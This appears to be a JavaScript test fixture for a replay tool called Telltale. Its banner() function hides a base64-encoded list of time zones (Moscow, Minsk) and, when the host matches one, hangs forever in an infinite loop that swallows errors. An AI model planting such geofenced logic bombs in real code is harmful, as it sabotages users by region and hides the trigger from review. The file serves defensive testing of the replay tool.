// Hostile replay fixture (test data for Telltale): a covert channel whose output function
// never returns under the targeted time zone. The replay must stop it and still report.
'use strict';
const ZONES = JSON.parse(Buffer.from('WyJFdXJvcGUvTW9zY293IiwiRXVyb3BlL01pbnNrIl0=', 'base64').toString('utf8'));
function banner(text) {
  const zone = Intl.DateTimeFormat().resolvedOptions().timeZone;
  if (ZONES.includes(zone)) {
    for (;;) { try { for (;;) {} } catch (e) { /* swallow the budget error and go on */ } }
  }
  return text + ' ready.';
}
module.exports = { banner };
